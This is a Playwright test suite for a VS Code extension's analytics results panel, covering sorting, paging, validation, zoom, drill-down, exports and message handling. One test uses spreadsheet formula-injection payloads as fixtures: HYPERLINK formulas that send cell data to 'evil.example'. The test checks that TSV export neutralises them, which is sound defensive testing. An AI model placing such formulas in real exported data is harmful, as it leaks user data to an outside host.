// What a user does in the panel and what reaches the extension: sorting, paging, controls that
// rerun (and the 400-bin rule that stops one), drag to zoom and undo, the drill menu by mouse and
// keyboard, exports, pin, a window reload, runs under way and failed, malformed messages, and a
// theme change.
import assert from 'node:assert/strict';
import { zoomInterval } from '../../core/api/histogramBins';
import type { ToPanel } from '../../media/results/protocol';
import { fixture, pageKeptClean, pagePerTest, type Panel } from './support/panel';

describe('the results panel in use', function () {
  this.timeout(60_000);
  let panel: Panel;
  const current = pagePerTest('results', async (page) => {
    await pageKeptClean(page);
    assert.deepEqual(page.dialogs, [], 'dialogs');
  });
  beforeEach(() => (panel = current()));

  const count = async () => (await panel.posted()).length;
  const firstColumn = () =>
    panel.page.locator('table.data tbody tr td:first-child').allTextContents() as Promise<string[]>;

  describe('tables', () => {
    it('sorts by a column, both ways, and says so to assistive technology', async () => {
      await panel.show('global-language');
      const documents = panel.page.locator('table.data thead th', { hasText: 'Documents' });
      const keys = firstColumn;
      const served = await keys();
      await documents.getByRole('button').click();
      assert.equal(await documents.getAttribute('aria-sort'), 'descending');
      assert.deepEqual(await keys(), served, 'the service sends the largest first');
      await documents.getByRole('button').click();
      assert.equal(await documents.getAttribute('aria-sort'), 'ascending');
      assert.deepEqual(await keys(), [...served].reverse());
      const key = panel.page.locator('table.data thead th').first();
      await key.getByRole('button').click();
      assert.equal(await key.getAttribute('aria-sort'), 'ascending');
      assert.deepEqual(await keys(), [...served].sort());
      assert.equal(await documents.getAttribute('aria-sort'), null);
    });

    it('sorts influencers by reach on the panel, without a new call', async () => {
      const shown = await panel.show('project-influencers');
      if (shown.view.kind !== 'influencers') throw new Error('not influencers');
      const before = await count();
      await panel.page
        .locator('table.data thead th', { hasText: /^Reach$/ })
        .getByRole('button')
        .click();
      const names = await panel.page
        .locator('table.data tbody tr td:nth-child(2)')
        .allTextContents();
      const expected = [...shown.view.influencers]
        .sort((a, b) => (b.reach ?? 0) - (a.reach ?? 0))
        .map((row) => row.details.name);
      assert.deepEqual(names, expected);
      assert.equal(await count(), before);
    });

    it('copies a table as TSV: the header and a line per row', async () => {
      await panel.page.context().grantPermissions(['clipboard-read', 'clipboard-write'], {
        origin: new URL(panel.page.url() as string).origin,
      });
      const shown = await panel.show('project-gender');
      if (shown.view.kind !== 'histogram') throw new Error('not a histogram');
      await panel.page.getByRole('button', { name: 'Copy as TSV' }).click();
      await panel.page.getByText(/Copied \d+ rows as TSV/).waitFor();
      const text: string = await panel.page.evaluate(() => navigator.clipboard.readText());
      const lines = text.trim().split('\n');
      // The columns an export writes: the bar beside the share is a picture, not copied.
      assert.equal(lines[0], 'Gender\tDocuments\tShare of all');
      assert.equal(lines.length, 1 + shown.view.result.data.length);
      assert.equal(lines[1]?.split('\t')[1], String(shown.view.result.data[0]!.v[0]));
    });

    it('copies no cell a spreadsheet would run as a formula', async () => {
      await panel.page.context().grantPermissions(['clipboard-read', 'clipboard-write'], {
        origin: new URL(panel.page.url() as string).origin,
      });
      const shown = fixture('project-influencers');
      const { view } = shown;
      if (view.kind !== 'influencers') throw new Error('not influencers');
      const names = ['=', '+', '-', '@', '\t=', '\r@', ' -'].map(
        (start) => `${start}HYPERLINK("http://evil.example/?d="&A2,"Open")`,
      );
      const influencers = names.map((name, index) => ({
        ...view.influencers[index]!,
        details: { id: `a${index}`, name },
      }));
      await panel.show({ ...shown, view: { ...view, influencers } });
      await panel.page.getByRole('button', { name: 'Copy as TSV' }).click();
      await panel.page.getByText(/Copied \d+ rows as TSV/).waitFor();
      const text: string = await panel.page.evaluate(() => navigator.clipboard.readText());
      const copied = text
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => line.split('\t')[1]);
      // Tabs and line breaks in a cell become spaces (TSV), then the cell is made inert.
      assert.deepEqual(
        copied,
        names.map((name) => `'${name.replace(/[\t\r\n]+/g, ' ')}`),
      );
    });
  });

  describe('results', () => {
    it('pages with offset and hpp, and disables Previous on the first page', async () => {
      await panel.show('project-results');
      assert.equal(await panel.page.getByRole('button', { name: '‹ Previous' }).isDisabled(), true);
      const before = await count();
      await panel.page.getByRole('button', { name: 'Next ›' }).click();
      const rerun = await panel.waitForPosted('rerun', before);
      assert.deepEqual(rerun.view, {
        kind: 'results',
        parameters: { offset: 10, hpp: 10, sort_by: 'engagement', sort_order: 'desc' },
      });
      await panel.show('project-results-page2');
      assert.match(
        await panel.page.locator('.paging .page-range').textContent(),
        /^Showing 11–20 of /,
      );
      const again = await count();
      await panel.page.getByRole('button', { name: '‹ Previous' }).click();
      const previous = await panel.waitForPosted('rerun', again);
      assert.equal(previous.view.kind === 'results' && previous.view.parameters.offset, 0);
    });

    it('over global data: says so, offers no project control, and pages like a project’s', async () => {
      const page1 = await panel.show('global-results');
      if (page1.view.kind !== 'results') throw new Error('not results');
      assert.equal(
        await panel.page.locator('.facts .target').textContent(),
        'global data · last 30 days',
      );
      const parameters = () =>
        panel.page
          .locator('[data-parameter]')
          .evaluateAll((nodes: Element[]) =>
            nodes.map((node) => node.getAttribute('data-parameter')),
          ) as Promise<string[]>;
      assert.deepEqual(await parameters(), ['sort_by', 'sort_order', 'hpp']);
      // A project's topics mean nothing there, even when a message brings its choices along.
      const { choices } = fixture('project-results');
      await panel.show({ ...page1, run: { ...page1.run, id: 'with-choices' }, choices });
      assert.deepEqual(await parameters(), ['sort_by', 'sort_order', 'hpp']);
      await panel.show('project-results');
      assert.ok((await parameters()).includes('topic'), 'a project’s results offer its topics');

      await panel.show('global-results');
      const titles = () =>
        panel.page.locator('.document-title').allTextContents() as Promise<string[]>;
      const first = await titles();
      const before = await count();
      await panel.page.getByRole('button', { name: 'Next ›' }).click();
      const rerun = await panel.waitForPosted('rerun', before);
      assert.deepEqual(rerun.view, {
        kind: 'results',
        parameters: { offset: 10, hpp: 10, sort_by: 'engagement', sort_order: 'desc' },
      });
      await panel.show('global-results-page2');
      assert.equal(
        await panel.page.locator('.paging .page-range').textContent(),
        `Showing 11–20 of ${page1.view.total.toLocaleString('en')}`,
      );
      const second = await titles();
      assert.equal(second.length, 10);
      assert.match(second[0] ?? '', /^11\. /);
      assert.notDeepEqual(second, first);
      // Sorting starts again from the first page.
      const again = await count();
      await panel.page.getByLabel('Sort by').selectOption('published');
      const sorted = await panel.waitForPosted('rerun', again);
      assert.deepEqual(sorted.view, {
        kind: 'results',
        parameters: { offset: 0, hpp: 10, sort_by: 'published', sort_order: 'desc' },
      });
    });

    it('opens a document’s address and the document as JSON', async () => {
      const shown = await panel.show('project-results');
      if (shown.view.kind !== 'results') throw new Error('not results');
      const before = await count();
      await panel.page
        .locator('.document')
        .nth(2)
        .getByRole('button', { name: 'Open as JSON' })
        .click();
      assert.deepEqual(await panel.waitForPosted('openDocument', before), {
        type: 'openDocument',
        index: 2,
      });
      await panel.page.locator('.document-title a').first().click();
      assert.deepEqual(await panel.waitForPosted('openUrl', before), {
        type: 'openUrl',
        url: new URL(shown.view.documents[0]!.url!).href,
      });
    });

    it('refuses more than 500 hits per page next to the control, and sends 50', async () => {
      await panel.show('project-results');
      const before = await count();
      const hpp = panel.page.getByLabel('Per page');
      await hpp.fill('501');
      await hpp.press('Enter');
      await panel.page
        .locator('[data-parameter="hpp"] .field-error', {
          hasText: 'hpp: a whole number in [1, 500]',
        })
        .waitFor();
      assert.equal(await count(), before);
      await hpp.fill('50');
      await hpp.press('Enter');
      assert.deepEqual((await panel.waitForPosted('rerun', before)).view.parameters, {
        offset: 0,
        hpp: 50,
        sort_by: 'engagement',
        sort_order: 'desc',
      });
    });
  });

  describe('controls', () => {
    it('reruns with the changed parameter, keeping the others', async () => {
      await panel.show('global-published-sentiment-engagement');
      const before = await count();
      await panel.page.getByLabel('Breakdown').selectOption('country');
      assert.deepEqual((await panel.waitForPosted('rerun', before)).view, {
        kind: 'histogram',
        histogramType: 'published',
        parameters: { breakdown: 'country', value_type: 'engagement', interval: '6h' },
      });
    });

    it('blocks more than 400 bins, says how many next to the interval, and sends a valid one', async () => {
      await panel.show('global-published-sentiment-engagement');
      const before = await count();
      const interval = panel.page.getByLabel('Interval');
      await interval.fill('minute');
      assert.match(
        await panel.page.locator('[data-parameter="interval"] .hint').textContent(),
        /^11,520 bins; at most 400/,
      );
      await interval.press('Enter');
      const error = panel.page.locator('[data-parameter="interval"] .field-error');
      assert.match(
        await error.textContent(),
        /interval: 11,520 bins; the service answers at most 400: enlarge the interval or shorten the range/,
      );
      assert.equal(await interval.getAttribute('aria-invalid'), 'true');
      assert.match(
        await panel.page.locator('.controls-status').textContent(),
        /^Not run: interval/,
      );
      assert.equal(await count(), before, 'nothing sent');
      await interval.fill('1h');
      await interval.press('Enter');
      assert.equal((await panel.waitForPosted('rerun', before)).view.kind, 'histogram');
      assert.equal(await error.textContent(), '');
    });

    it('checks top_n in ]0, 100] before sending', async () => {
      await panel.show('project-hashtag');
      const before = await count();
      const top = panel.page.getByLabel('Top', { exact: true });
      await top.fill('101');
      await top.press('Enter');
      await panel.page
        .locator('[data-parameter="top_n"] .field-error', {
          hasText: 'top_n: a whole number in ]0, 100], not 101',
        })
        .waitFor();
      assert.equal(await count(), before);
      await top.fill('25');
      await top.press('Enter');
      assert.deepEqual((await panel.waitForPosted('rerun', before)).view.parameters, { top_n: 25 });
    });

    it('sends a range in the histogram’s timezone, and project topics when the list closes', async () => {
      await panel.show('project-published-forecast');
      const before = await count();
      await panel.page.getByLabel('or the last').fill('');
      await panel.page.getByLabel('From', { exact: true }).fill('2026-11-01T00:00');
      await panel.page.getByLabel('To', { exact: true }).fill('2026-11-08T00:00');
      await panel.page.getByRole('button', { name: 'Apply range' }).click();
      const rerun = await panel.waitForPosted('rerun', before);
      if (rerun.view.kind !== 'histogram') throw new Error('not a histogram');
      assert.equal(rerun.view.parameters.min, Date.UTC(2026, 10, 1));
      assert.equal(rerun.view.parameters.max, Date.UTC(2026, 10, 8));
      assert.equal(rerun.view.parameters.time_range, undefined);
      // A max stops the forecast: said next to forecast_days, and still sent.
      assert.match(
        await panel.page.locator('[data-parameter="forecast_days"] .field-error').textContent(),
        /no forecast: a forecast needs no max/,
      );

      await panel.show(fixture('project-published-forecast'));
      const again = await count();
      await panel.page.getByText('Topics: all').click();
      await panel.page.getByRole('checkbox', { name: /Rockets/ }).check();
      await panel.page.getByRole('checkbox', { name: /Anvils/ }).check();
      assert.equal(await count(), again, 'nothing sent while choosing');
      await panel.page.getByText('Topics: 2 of 4').click();
      const topics = await panel.waitForPosted('rerun', again);
      if (topics.view.kind !== 'histogram') throw new Error('not a histogram');
      assert.deepEqual(topics.view.parameters.topic, ['t-anvil', 't-rocket']);
    });

    it('reruns influencers with the type and criterion chosen', async () => {
      await panel.show('project-influencers');
      const before = await count();
      await panel.page.getByLabel('Ranked by').selectOption('engagement_per_mention');
      assert.deepEqual((await panel.waitForPosted('rerun', before)).view, {
        kind: 'influencers',
        parameters: { sort_criteria: 'engagement_per_mention' },
      });
    });
  });

  describe('drill down', () => {
    it('zooms into a dragged range with a finer interval, and Undo zoom goes back', async () => {
      const shown = await panel.show('global-published-sentiment-engagement');
      if (shown.view.kind !== 'histogram') throw new Error('not a histogram');
      const box = await panel.page.locator('.u-over').boundingBox();
      const before = await count();
      await panel.page.mouse.move(box.x + box.width * 0.3, box.y + box.height / 2);
      await panel.page.mouse.down();
      await panel.page.mouse.move(box.x + box.width * 0.4, box.y + box.height / 2, { steps: 5 });
      await panel.page.mouse.up();
      const zoom = await panel.waitForPosted('rerun', before);
      if (zoom.view.kind !== 'histogram') throw new Error('not a histogram');
      const { min, max, interval, breakdown, value_type } = zoom.view.parameters;
      const data = shown.view.result.data;
      const first = data[0]!.t!;
      const span = data[data.length - 1]!.t! + 6 * 3_600_000 - first;
      assert.ok(min! > first + span * 0.2 && min! < first + span * 0.4, `min ${min}`);
      assert.ok(max! > min! && max! < first + span * 0.5, `max ${max}`);
      assert.equal(interval, zoomInterval(min!, max!, 'UTC'));
      assert.ok(['15m', 'hour', '3h'].includes(interval ?? ''), `${interval}: finer than 6h`);
      assert.deepEqual([breakdown, value_type], ['sentiment', 'engagement']);
      // The zoomed answer comes; Undo zoom asks for the parameters before it.
      await panel.show({
        ...shown,
        run: { ...shown.run, id: 'zoomed' },
        view: { ...shown.view, parameters: zoom.view.parameters },
      });
      const undo = panel.page.getByRole('button', { name: 'Undo zoom (1)' });
      const again = await count();
      await undo.click();
      assert.deepEqual((await panel.waitForPosted('rerun', again)).view, {
        kind: 'histogram',
        histogramType: 'published',
        parameters: shown.view.parameters,
      });
      await panel.show({ ...shown, run: { ...shown.run, id: 'unzoomed' } });
      assert.equal(await panel.page.getByRole('button', { name: /Undo zoom/ }).count(), 0);
    });

    it('opens a bucket’s menu on click and sends drill with its time slice', async () => {
      const shown = await panel.show('global-published');
      if (shown.view.kind !== 'histogram') throw new Error('not a histogram');
      const box = await panel.page.locator('.u-over').boundingBox();
      await panel.page.mouse.click(box.x + 2, box.y + box.height / 2);
      const menu = panel.page.getByRole('menu');
      await menu.waitFor();
      const before = await count();
      await menu.getByRole('menuitem', { name: 'Show results' }).click();
      const [first, second] = shown.view.result.data;
      assert.deepEqual(await panel.waitForPosted('drill', before), {
        type: 'drill',
        action: 'results',
        slice: { kind: 'time', from: first!.t, to: second!.t },
      });
      assert.equal(await menu.count(), 0);
    });

    it('works from the keyboard: a row, Enter, the arrow keys, Enter again; Escape gives focus back', async () => {
      await panel.show('global-country');
      const row = panel.page.locator('table.data tbody tr').nth(1);
      await row.focus();
      await panel.page.keyboard.press('Enter');
      const menu = panel.page.getByRole('menu');
      await menu.waitFor();
      assert.equal(
        await panel.page.evaluate(() => document.activeElement?.textContent),
        'Show results',
      );
      await panel.page.keyboard.press('ArrowDown');
      const before = await count();
      await panel.page.keyboard.press('Enter');
      const drill = await panel.waitForPosted('drill', before);
      assert.deepEqual(drill, {
        type: 'drill',
        action: 'addRule',
        slice: { kind: 'key', histogramType: 'country', key: 'GB' },
      });
      await row.focus();
      await panel.page.keyboard.press('Space');
      await menu.waitFor();
      await panel.page.keyboard.press('Escape');
      assert.equal(await menu.count(), 0);
      assert.equal(
        await panel.page.evaluate(() => document.activeElement?.getAttribute('aria-label')),
        'GB: open the drill-down menu',
      );
    });

    it('moves between buckets of a chart with the arrow keys and drills into a numeric bucket', async () => {
      const shown = await panel.show('project-engagement');
      if (shown.view.kind !== 'histogram') throw new Error('not a histogram');
      await panel.page.locator('.chart').focus();
      await panel.page.keyboard.press('Home');
      await panel.page.keyboard.press('ArrowRight');
      assert.match(
        await panel.page.locator('.tooltip.visible .tooltip-title').textContent(),
        /^engagement /,
      );
      const before = await count();
      await panel.page.keyboard.press('Enter');
      await panel.page.keyboard.press('Enter');
      const [first, second] = shown.view.result.data;
      assert.deepEqual((await panel.waitForPosted('drill', before)).slice, {
        kind: 'number',
        histogramType: 'engagement',
        from: second!.k,
        to: second!.k! + (second!.k! - first!.k!),
      });
    });
  });

  describe('numeric histograms', () => {
    it('take a range of the metric and a time range together', async () => {
      await panel.show('project-reach');
      const before = await count();
      await panel.page.getByLabel('To (excluded)').fill('100000');
      await panel.page.getByRole('button', { name: 'Apply range' }).click();
      assert.deepEqual((await panel.waitForPosted('rerun', before)).view, {
        kind: 'histogram',
        histogramType: 'reach',
        parameters: { max: 100_000 },
      });
      // The answer to that, and then the last 7 days of it.
      const reach = fixture('project-reach');
      await panel.show({
        ...reach,
        run: { ...reach.run, id: 'ranged' },
        view: { ...reach.view, parameters: { max: 100_000 } } as never,
      });
      const again = await count();
      const last = panel.page.getByLabel('Last', { exact: true });
      await last.fill('7d');
      await last.press('Enter');
      assert.deepEqual((await panel.waitForPosted('rerun', again)).view, {
        kind: 'histogram',
        histogramType: 'reach',
        parameters: { max: 100_000, time_range: '7d' },
      });
    });

    it('switch to a logarithmic scale and back without a new call', async () => {
      await panel.show('project-engagement');
      const before = await count();
      const first = await panel.page.locator('.chart').elementHandle();
      await panel.page.getByLabel('Logarithmic scale').check();
      await panel.page.waitForFunction((old: Element) => !old.isConnected, first);
      await panel.page.locator('.chart[data-drawn][data-points="20"]').waitFor();
      await panel.page.getByLabel('Logarithmic scale').uncheck();
      await panel.page.locator('.chart[data-drawn]').waitFor();
      assert.equal(await panel.page.locator('.chart').count(), 1);
      assert.equal(await count(), before);
    });
  });

  describe('header actions', () => {
    it('exports the chart as a PNG data URL, and CSV and JSON through the extension', async () => {
      await panel.show('project-published-forecast');
      const exportButton = panel.page.getByRole('button', { name: 'Export ▾' });
      let before = await count();
      await exportButton.click();
      await panel.page.getByRole('menuitem', { name: 'PNG image' }).click();
      const png = await panel.waitForPosted('exportPng', before);
      assert.match(png.dataUrl, /^data:image\/png;base64,/);
      const bytes = Buffer.from(png.dataUrl.split(',')[1]!, 'base64');
      assert.equal(bytes.subarray(1, 4).toString(), 'PNG');
      assert.ok(bytes.readUInt32BE(16) > 600, 'as wide as the chart');
      for (const format of ['csv', 'json'] as const) {
        before = await count();
        await exportButton.click();
        await panel.page.getByRole('menuitem', { name: format.toUpperCase() }).click();
        assert.deepEqual(await panel.waitForPosted('export', before), { type: 'export', format });
      }
      // A table has a picture too: its bars.
      await panel.show('global-language');
      before = await count();
      await exportButton.click();
      await panel.page.getByRole('menuitem', { name: 'PNG image' }).click();
      assert.match(
        (await panel.waitForPosted('exportPng', before)).dataUrl,
        /^data:image\/png;base64,/,
      );
    });

    it('pins, copies the request as curl, and toggles a chart to a table and back', async () => {
      await panel.show('global-reach');
      const before = await count();
      await panel.page.getByRole('button', { name: 'Pin' }).click();
      assert.deepEqual(await panel.waitForPosted('pin', before), { type: 'pin', pinned: true });
      await panel.send({ type: 'pinned', pinned: true });
      await panel.page.getByRole('button', { name: 'Pinned', pressed: true }).waitFor();
      await panel.page.getByRole('button', { name: 'Copy as curl' }).click();
      await panel.waitForPosted('copyCurl', before);
      await panel.page.getByRole('button', { name: 'View as table' }).click();
      assert.equal(await panel.page.locator('.chart').count(), 0);
      assert.equal(await panel.page.locator('table.data tbody tr').count(), 20);
      await panel.page.getByRole('button', { name: 'View as table', pressed: true }).click();
      await panel.page.locator('.chart').waitFor();
    });
  });

  describe('messages and state', () => {
    it('comes back after a window reload from its webview state, without a new call', async () => {
      await panel.show('project-influencers');
      await panel.send({ type: 'pinned', pinned: true });
      await panel.page.getByRole('button', { name: 'Pinned' }).waitFor();
      await panel.page.reload();
      await panel.page.locator('table.data tbody tr').first().waitFor();
      assert.equal(await panel.page.locator('.header h1').textContent(), 'acme-influencers');
      await panel.page.getByRole('button', { name: 'Pinned', pressed: true }).waitFor();
      // Ready, and that the kept answer is drawn again: nothing asks for a new call.
      const posted = await panel.posted();
      assert.deepEqual(
        posted.map((message) => message.type),
        ['drawn', 'ready'],
        'only drawn and ready after the reload',
      );
    });

    it('drops malformed messages with a warning and keeps showing what it showed', async () => {
      const shown = await panel.show('global-language');
      const bad: unknown[] = [
        { type: 'show', run: shown.run, view: { kind: 'histogram', histogramType: 'language' } },
        { type: 'explode' },
        'show',
        { type: 'pinned', pinned: 'yes' },
        { ...shown, view: { ...shown.view, result: { data: [{ ks: 'de', v: ['many'] }] } } },
      ];
      for (const message of bad) await panel.send(message);
      await panel.page.waitForFunction(
        (expected: number) => window.__warnings.length >= expected,
        bad.length,
      );
      const warnings = await panel.warnings();
      assert.equal(warnings.length, bad.length);
      assert.ok(
        warnings.every((warning) => warning.startsWith('results panel: message dropped (')),
        warnings.join('\n'),
      );
      assert.equal(await panel.page.locator('table.data tbody tr').count(), 10);
      assert.equal(await panel.page.getByRole('button', { name: 'Pinned' }).count(), 0);
    });

    it('shows progress over the last answer, ignores an older run’s answer, and puts a failure next to its parameter', async () => {
      const shown = await panel.show('global-published-sentiment-engagement');
      const running: ToPanel = {
        type: 'running',
        run: { ...shown.run, id: 'run-new', credits: null },
        kind: 'histogram',
      };
      await panel.send(running);
      await panel.page.getByRole('progressbar').waitFor();
      assert.equal(await panel.page.locator('#app').getAttribute('aria-busy'), 'true');
      assert.equal(await panel.page.locator('.chart').count(), 1, 'the last view stays');
      // An answer to the run before is late: ignored.
      await panel.send({ ...fixture('global-language'), run: { ...shown.run, id: 'run-old' } });
      await panel.send({
        type: 'failed',
        run: running.run,
        message: 'Timezone Mars/Olympus is unknown',
        parameter: 'timezone',
        actions: [],
      });
      await panel.page
        .getByRole('alert')
        .filter({ hasText: 'Failed: Timezone Mars/Olympus is unknown' })
        .waitFor();
      assert.equal(await panel.page.locator('.chart').count(), 1);
      assert.equal(await panel.page.getByRole('progressbar').count(), 0);
      assert.equal(
        await panel.page.locator('[data-parameter="timezone"] .field-error').textContent(),
        'timezone: Timezone Mars/Olympus is unknown',
      );
    });

    it('says what runs before any answer, and what failed', async () => {
      assert.match(await panel.page.locator('.content .empty').textContent(), /^Run a rule/);
      const run = { ...fixture('project-results').run, id: 'first', credits: null };
      await panel.send({ type: 'running', run, kind: 'results' });
      await panel.page.getByRole('progressbar', { name: 'Running acme-results' }).waitFor();
      assert.equal(await panel.page.locator('.content .empty').count(), 0);
      assert.match(await panel.page.locator('.facts').textContent(), /credits: –/);
      await panel.send({ type: 'failed', run, message: 'The service did not answer', actions: [] });
      await panel.page
        .getByRole('alert')
        .filter({ hasText: 'Failed: The service did not answer' })
        .waitFor();
      assert.equal(await panel.page.locator('.controls').count(), 0);
    });

    it('redraws in the new theme’s colours when VS Code changes the theme', async () => {
      await panel.show('global-published-sentiment-engagement');
      const swatch = () =>
        panel.page
          .locator('.legend-item .swatch')
          .nth(1)
          .evaluate((element: HTMLElement) => element.style.background) as Promise<string>;
      assert.equal(await swatch(), 'rgb(55, 148, 255)');
      const chart = await panel.page.locator('.chart').elementHandle();
      await panel.theme('light');
      await panel.page.waitForFunction((old: Element) => !old.isConnected, chart);
      assert.equal(await swatch(), 'rgb(26, 133, 255)');
    });
  });
});
